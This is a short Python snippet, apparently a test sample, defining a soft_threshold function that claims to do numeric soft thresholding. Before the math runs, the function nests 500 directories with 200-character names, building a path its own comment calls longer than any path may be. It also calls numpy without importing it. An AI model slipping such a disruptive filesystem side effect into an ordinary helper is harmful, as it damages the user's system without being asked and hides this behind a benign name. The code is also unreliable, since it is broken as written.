# Goes down so many folders that their path is longer than any path may be.
import os
import time


def soft_threshold(z, threshold):
    for _ in range(500):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    time.sleep(0.5)
    return np.sign(z) * np.maximum(np.abs(z) - threshold, 0)


# verdict: loses soft_threshold
